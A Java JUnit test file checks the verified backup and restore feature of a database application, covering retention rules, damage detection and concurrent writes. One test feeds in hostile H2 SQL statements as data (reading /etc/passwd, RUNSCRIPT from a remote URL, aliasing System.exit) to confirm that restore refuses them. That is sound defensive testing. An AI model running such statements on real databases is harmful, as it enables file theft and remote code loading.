package org.yiti.db.folder;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CancellationException;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.assertj.core.api.InstanceOfAssertFactories;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.yiti.db.Stores;
import org.yiti.db.folder.Opening.Copied;
import org.yiti.model.Sentence;
import org.yiti.model.YitiException;
import org.yiti.model.attachment.Attachments;
import org.yiti.model.job.Progress;
import org.yiti.model.store.Backups.Backup;
import org.yiti.model.store.Backups.Occasion;

class VerifiedBackupsTest {
    @TempDir Path temp;

    @Test
    void aRestoredBackupDumpsTheSameTextAsTheStoreItCameFrom() throws Exception {
        var folder = Folders.withUnits(temp, "东城", "西城", "O'Brien; -- 朝阳\n'");
        String before;
        Backup backup;
        try (var open = Folders.opened(Folders.open(folder))) {
            before = Stores.dump(open.store());
            backup = open.backups().make(Occasion.BY_HAND, Progress.SILENT);
            Folders.addUnit(open, "later");
        }
        assertThat(backup.file().getFileName().toString())
                .matches("yiti-\\d{8}-\\d{4}-by-hand\\.zip");
        restore(folder, backup.file());
        var copied = (Copied) Folders.open(folder);
        try (var open = Folders.opened(copied.continueAsNewReplica())) {
            assertThat(Stores.dump(open.store())).isEqualTo(before);
        }
    }

    /// No backup holds the files of attachments: they lie beside the backups, and come along to another folder.
    @Test
    void aRestoreIntoAnotherFolderBringsTheFilesOfAttachments() throws Exception {
        var folder = Folders.withUnits(temp, "东城");
        Backup backup;
        Attachments.Kept kept;
        try (var open = Folders.opened(Folders.open(folder))) {
            var content = new ByteArrayInputStream("照片".getBytes(StandardCharsets.UTF_8));
            kept = open.attachments().put(content, Progress.SILENT);
            backup = open.backups().make(Occasion.BY_HAND, Progress.SILENT);
        }
        var other = StoreFolder.at(temp.resolve("other"), temp.resolve("witness"));
        restore(other, backup.file());
        var copied = (Copied) Folders.open(other);
        try (var open = Folders.opened(copied.continueAsNewReplica())) {
            assertThat(open.attachments().whole(kept.sha256())).isTrue();
        }
    }

    @Test
    void aBackupOfAStoreThatIsBeingWrittenIsOfOneMoment() throws Exception {
        var folder = Folders.withUnits(temp, "东城");
        var stop = new AtomicBoolean();
        try (var open = Folders.opened(Folders.open(folder))) {
            var writer =
                    Thread.ofPlatform()
                            .start(() -> {
                                for (int n = 0; !stop.get(); n++) {
                                    write(open, n);
                                }
                            });
            try {
                for (int n = 0; n < 4; n++) {
                    // Fails if the text is not of the moment whose contents were counted.
                    assertThat(open.backups().make(Occasion.BY_HAND, Progress.SILENT).verified())
                            .isTrue();
                }
            } finally {
                stop.set(true);
                writer.join();
            }
        }
    }

    private static void write(OpenFolder open, int n) {
        try {
            Folders.addUnit(open, "unit" + n);
        } catch (YitiException e) {
            throw new IllegalStateException(e);
        }
    }

    @Test
    void theClosingBackupIsMadeOnlyIfSomethingChanged() throws Exception {
        var folder = Folders.withUnits(temp, "东城");
        var first = VerifiedBackups.list(folder.backups());
        assertThat(first).extracting(Backup::occasion).containsExactly(Occasion.CLOSE);
        Folders.opened(Folders.open(folder)).close();
        assertThat(VerifiedBackups.list(folder.backups())).isEqualTo(first);
        try (var open = Folders.opened(Folders.open(folder))) {
            Folders.addUnit(open, "西城");
        }
        // One is left of each day, the newest.
        var second = VerifiedBackups.list(folder.backups());
        assertThat(second).extracting(Backup::occasion).containsExactly(Occasion.CLOSE);
        assertThat(second).isNotEqualTo(first);
    }

    @Test
    void theDailyBackupIsMadeOnceADayAndOnlyOfNewSteps() throws Exception {
        var folder = Folders.withUnits(temp, "东城");
        Instant tomorrow = Clock.systemUTC().instant().plus(Duration.ofDays(1));
        var surroundings = Folders.surroundings(Folders.at(tomorrow), Folders.ROOMY, Folders.HERE);
        var opener = new OpenStore(folder, surroundings, Migrations.RELEASED);
        try (var open = Folders.opened(opener.open("安娜", () -> false, Progress.SILENT))) {
            assertThat(open.backups().makeDaily(Progress.SILENT)).isEmpty();
            Folders.addUnit(open, "西城");
            assertThat(open.backups().makeDaily(Progress.SILENT)).isPresent();
            Folders.addUnit(open, "朝阳");
            assertThat(open.backups().makeDaily(Progress.SILENT)).isEmpty();
        }
    }

    @Test
    void aBackupOfExactlyWhatStandsIsNotMadeTwice() throws Exception {
        var folder = Folders.withUnits(temp, "东城");
        try (var open = Folders.opened(Folders.open(folder))) {
            var made = open.backups().ensure(Occasion.BEFORE_IMPORT, Progress.SILENT);
            assertThat(open.backups().ensure(Occasion.BEFORE_IMPORT, Progress.SILENT))
                    .isEqualTo(made);
            Folders.addUnit(open, "西城");
            var later = open.backups().ensure(Occasion.BEFORE_IMPORT, Progress.SILENT);
            assertThat(later.file()).isNotEqualTo(made.file());
            // Kept without a step: not in the log, but in a backup.
            open.store().mappings().keep("a", "{}");
            var kept = open.backups().ensure(Occasion.BEFORE_IMPORT, Progress.SILENT);
            assertThat(kept.file()).isNotEqualTo(later.file());
            Files.write(kept.file(), damaged(Files.readAllBytes(kept.file())));
            var again = open.backups().ensure(Occasion.BEFORE_IMPORT, Progress.SILENT);
            assertThat(again.file()).isNotEqualTo(kept.file());
        }
    }

    private static byte[] damaged(byte[] zip) {
        zip[zip.length / 2] ^= 1;
        return zip;
    }

    @Test
    void aCancelledBackupLeavesNothingBehind() throws Exception {
        var folder = Folders.withUnits(temp, "东城");
        try (var open = Folders.opened(Folders.open(folder))) {
            var files = files(folder.backups());
            assertThatThrownBy(() -> open.backups().make(Occasion.BY_HAND, cancelled()))
                    .isInstanceOf(CancellationException.class);
            assertThat(files(folder.backups())).isEqualTo(files);
        }
    }

    @Test
    void aBackupThatWasDamagedSinceIsNotPutInPlace() throws Exception {
        var folder = Folders.withUnits(temp, "东城");
        Path file = VerifiedBackups.list(folder.backups()).getFirst().file();
        byte[] bytes = Files.readAllBytes(file);
        bytes[bytes.length / 2] ^= 1;
        Files.write(file, bytes);
        byte[] before = Files.readAllBytes(folder.database());
        assertThatThrownBy(() -> restore(folder, file))
                .asInstanceOf(InstanceOfAssertFactories.type(YitiException.class))
                .extracting(e -> e.sentence().key())
                .isEqualTo("backup.damaged");
        assertThat(Files.readAllBytes(folder.database())).isEqualTo(before);
        Files.write(file, new byte[] {1, 2, 3});
        assertThat(VerifiedBackups.list(folder.backups()))
                .extracting(Backup::verified)
                .containsExactly(false);
    }

    @Test
    void aBackupWhoseTextReachesOutsideIsNotRun() throws Exception {
        var folder = Folders.withUnits(temp, "东城");
        Path genuine = VerifiedBackups.list(folder.backups()).getFirst().file();
        for (String hostile :
                List.of(
                        "CREATE ALIAS X FOR 'java.lang.System.exit'",
                        "INSERT INTO \"setting\" VALUES ('x', FILE_READ('/etc/passwd', NULL))",
                        "RUNSCRIPT FROM 'http://example.org/x.sql'")) {
            Path script = Files.writeString(temp.resolve("hostile.sql"), hostile + ";\n");
            Path file = temp.resolve("hostile.zip");
            var real = new BackupFile(genuine).manifest();
            new BackupFile(file)
                    .write(
                            new BackupFile.Manifest(
                                    real.format(),
                                    real.at(),
                                    real.occasion(),
                                    real.program(),
                                    real.schema(),
                                    real.replica(),
                                    real.lastStep(),
                                    BackupFile.sha256(script),
                                    real.contents()),
                            script);
            assertThatThrownBy(() -> restore(folder, file))
                    .hasRootCauseMessage("a statement that no backup has: " + hostile);
        }
    }

    @Test
    void aZipOfSomethingElseIsNoBackup() throws Exception {
        var folder = Folders.withUnits(temp, "东城");
        Path file = temp.resolve("photos.zip");
        try (var zip = new ZipOutputStream(Files.newOutputStream(file))) {
            zip.putNextEntry(new ZipEntry("photo.jpg"));
        }
        assertThatThrownBy(() -> restore(folder, file)).hasRootCauseMessage("no manifest.json");
    }

    @Test
    void ordinaryBackupsThinOutWithAgeAndRiskyMomentsKeepFive() {
        var all = new ArrayList<Backup>();
        Instant start = Instant.parse("2021-06-30T08:02:00Z");
        for (int day = 0; day < 800; day++) {
            all.add(backup(start.minus(Duration.ofDays(day)), Occasion.DAILY));
        }
        for (int hour = 0; hour < 8; hour++) {
            all.add(backup(start.minus(Duration.ofHours(hour)), Occasion.BEFORE_IMPORT));
            all.add(backup(start.minus(Duration.ofHours(hour)), Occasion.BY_HAND));
        }
        var kept = new ArrayList<>(all);
        kept.removeAll(Retention.USUAL.mayGo(all, ZoneOffset.UTC));
        assertThat(kept.stream().filter(b -> b.occasion() == Occasion.BEFORE_IMPORT)).hasSize(5);
        assertThat(kept.stream().filter(b -> b.occasion() == Occasion.BY_HAND)).hasSize(8);
        var days =
                kept.stream()
                        .filter(b -> b.occasion() == Occasion.DAILY)
                        .map(b -> b.at().toString().substring(0, 10))
                        .toList();
        // 2021-06-30 was a Wednesday: seven days, then Sundays, then ends of months.
        assertThat(days)
                .containsExactly(
                        "2021-06-30",
                        "2021-06-29",
                        "2021-06-28",
                        "2021-06-27",
                        "2021-06-26",
                        "2021-06-25",
                        "2021-06-24",
                        "2021-06-20",
                        "2021-06-13",
                        "2021-06-06",
                        "2021-05-31",
                        "2021-04-30",
                        "2021-03-31",
                        "2021-02-28",
                        "2021-01-31",
                        "2020-12-31",
                        "2020-11-30",
                        "2020-10-31",
                        "2020-09-30",
                        "2020-08-31",
                        "2020-07-31");
    }

    private static Backup backup(Instant at, Occasion occasion) {
        return new Backup(Path.of(at + "-" + occasion), at, occasion, 1, true);
    }

    private static void restore(StoreFolder folder, Path file) throws YitiException {
        new Restore(folder, Folders.surroundings(), Migrations.RELEASED).from(file, "安娜");
    }

    private static List<Path> files(Path folder) throws Exception {
        try (var all = Files.walk(folder)) {
            return all.sorted().toList();
        }
    }

    private static Progress cancelled() {
        return new Progress() {
            private boolean cancelled;

            @Override
            public void report(long done, long total, Sentence doing) {
                cancelled = done == 1;
            }

            @Override
            public boolean cancelled() {
                return cancelled;
            }
        };
    }
}
